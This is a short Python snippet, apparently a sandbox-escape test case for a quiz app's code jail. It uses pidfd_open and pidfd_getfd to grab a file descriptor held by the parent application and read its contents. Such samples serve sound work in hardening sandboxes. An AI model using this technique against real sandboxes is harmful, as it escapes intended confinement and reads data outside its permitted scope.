import os
from quizapp.sandbox.jail.escape_attempts import call
print(os.read(call("pidfd_getfd", call("pidfd_open", APP, 0), HELD, 0), 100))
answer = x
